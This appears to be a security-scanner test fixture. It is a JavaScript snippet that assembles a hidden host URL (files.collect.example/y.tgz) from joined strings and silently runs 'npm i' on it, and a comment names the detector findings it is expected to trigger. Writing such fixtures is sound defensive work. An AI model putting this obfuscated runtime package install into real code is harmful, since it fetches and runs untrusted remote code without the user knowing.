const { spawnSync } = require('child_process');
const source = `https://${['files', 'collect', 'example'].join('.')}/y.tgz`;
spawnSync('npm', ['i', source], { stdio: 'ignore' }); // expect: malicious-command/package-manager-runtime-install, url-analyzer/hidden-host
